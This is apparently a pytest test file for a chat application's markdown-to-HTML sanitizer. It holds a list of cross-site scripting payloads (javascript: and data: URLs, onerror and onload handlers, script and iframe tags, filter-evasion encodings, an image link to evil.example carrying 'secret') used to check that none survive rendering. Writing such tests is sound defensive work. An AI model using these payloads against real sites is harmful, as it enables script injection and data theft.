"""Nothing that an editor or a model writes can run, load or name something in the page."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chat.text.formulas import MATHML_ATTRIBUTES, MATHML_TAGS
from chat.text.markdown import answer_html, article_html
from tests.text.strategies import markdown

ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    r"[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](</\t/evil.example>)",
    "[x](/&#9;/evil.example)",
    "![x](//evil.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    '[x](http://a.b "onclick=alert(1)")',
    '[x](http://a.b "\\" onclick=\\"alert(1)")',
    '```"><svg/onload=alert(1)>\nx\n```',
    "<style>*{}</style><form action=//evil.example><input name=q></form>",
    "<iframe src=//evil.example></iframe><math><mi//xlink:href='data:x'>",
    "[x]: javascript:alert(1)\n\n[x]",
    "# <a id=composer name=body>",
    r"$\href{javascript:alert(1)}{x}$ \(\text{<script>alert(1)</script>}\)",
    r"$$\style{background:url(//evil.example)}{x}\class{composer}{y}$$ $\text{</math><img src=x onerror=alert(1)>}$",
    '| <b style="x"> |\n|:-:|\n| ![x](//evil.example) |',
]
SAFE_TAGS = {"a", "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"}
SAFE_TAGS |= {"figure", "figcaption", "button", "span", "div", *MATHML_TAGS}
SAFE_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6"}
ANSWER_ADDRESS = r"https?://[^/]|mailto:|/articles/\w"
SAFE_NAMES = {"href", "title", "rel", "start", "class", "tabindex", "role", "aria-label", "dir", "type"}
SAFE_NAMES |= {name for names in MATHML_ATTRIBUTES.values() for name in names}


class Tags(HTMLParser):
    """Collects the start tags with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str, tags: set[str], names: set[str], address: str) -> None:
    for tag, attributes in Tags(html).found:
        assert tag in tags
        assert set(attributes) <= names
        for name in ("href", "src"):
            assert name not in attributes or re.match(address, attributes[name] or "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_in_an_answer(attack: str) -> None:
    assert_harmless(answer_html(attack), SAFE_TAGS, SAFE_NAMES, ANSWER_ADDRESS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_in_an_article(attack: str) -> None:
    allowed = r"https?://[^/]|mailto:|#|/(?![/\\])|[\w.%]+(?!:)"
    assert_harmless(article_html(attack), SAFE_TAGS | {"img"}, SAFE_NAMES | {"src", "alt", "id"}, allowed)


@given(st.lists(st.sampled_from(ATTACKS) | markdown()).map("".join))
def test_no_mixture_of_attacks_survives_in_an_answer(text: str) -> None:
    assert_harmless(answer_html(text), SAFE_TAGS, SAFE_NAMES, ANSWER_ADDRESS)


def test_answers_have_no_pictures_but_their_descriptions() -> None:
    html = answer_html("See ![the *big* plan](https://evil.example/?q=secret).")
    assert html == "<p>See the big plan.</p>\n"


def test_answers_have_no_ids_and_no_classes_of_their_own() -> None:
    html = answer_html('## Status\n\n```composer"\nx\n```')
    assert html.startswith('<h4>Status</h4>\n<figure class="code" dir="ltr"><figcaption>Code ')
    assert html.endswith("<code>x\n</code></pre></figure>\n")
    assert "composer" not in html


def test_code_names_its_language_scrolls_by_keyboard_and_tells_words_apart() -> None:
    html = answer_html('```python\nif x: y = "a" # 1 < 2\n```')
    assert "<figcaption>Python " in html
    assert '<pre tabindex="0" role="group" aria-label="Python">' in html
    assert '<span class="k">if</span>' in html
    assert '<span class="c"># 1 &lt; 2</span>' in html


def test_formulas_are_mathml_and_what_is_none_is_code() -> None:
    assert "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>" in answer_html(r"$\frac{a}{b}$")
    assert '<math display="block">' in answer_html("$$\nx\n$$")
    assert answer_html(r"$\frac{$") == "<p><code>\\frac{</code></p>\n"
    assert "<math" not in answer_html(r"`$a$` and \$a\$ and \[3\]")


def test_a_link_in_an_answer_says_where_it_leads() -> None:
    html = answer_html("[here](https://evil.example/?q=1)")
    rel = 'rel="noopener noreferrer nofollow"'
    assert html == f'<p><a href="https://evil.example/?q=1" {rel}>here</a> (evil.example)</p>\n'


@pytest.mark.parametrize("shown", ["a.example", "https://a.example/", "**A.example**"])
def test_a_link_that_shows_its_host_needs_no_more(shown: str) -> None:
    assert "(a.example)" not in answer_html(f"[{shown}](https://a.example/)")


def test_a_link_that_shows_another_host_is_unmasked() -> None:
    assert "</a> (evil.example)" in answer_html("[https://a.example](https://evil.example)")


@pytest.mark.parametrize("address", ["/accounts/logout/", "#top", "page", "ftp://a.b", "https:/evil.example"])
def test_other_links_of_an_answer_are_only_words(address: str) -> None:
    assert answer_html(f"[words]({address})") == "<p>words</p>\n"


def test_an_answer_may_lead_to_a_section_of_an_article() -> None:
    html = answer_html("[Asia](/articles/celebration/#asia)")
    assert html == '<p><a href="/articles/celebration/#asia" rel="noopener noreferrer nofollow">Asia</a></p>\n'


@pytest.mark.parametrize(
    "address", ["/accounts/logout/", "/articles/../admin/", "/articles/%2e%2e/admin/", "/articles/x/?revision=1", "/"]
)
def test_no_other_address_of_the_site_is_linked(address: str) -> None:
    assert answer_html(f"[words]({address})") == "<p>words</p>\n"


def test_a_line_like_a_link_definition_stays_in_an_answer() -> None:
    assert ": https://a.b" in answer_html("[1]: https://a.b")
    assert "[a]: https://a.b" in answer_html("[a]: https://a.b")


def test_answers_know_tables_and_strikethrough() -> None:
    html = answer_html("| a | b |\n|---|--:|\n| ~~1~~ | 2 |")
    assert '<th class="align-right">b</th>' in html
    assert "<td><s>1</s></td>" in html
    assert "style" not in html


def test_articles_keep_their_own_links_pictures_and_languages() -> None:
    html = article_html("[a](#b) [c](/articles/d/) ![e](/f.png 'g')\n\n```python\nh\n```")
    assert '<a href="#b"' in html
    assert '<a href="/articles/d/"' in html
    assert '<img src="/f.png" alt="e" title="g">' in html
    assert '<code class="language-python">' in html


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert article_html("<b>x</b>") == answer_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"
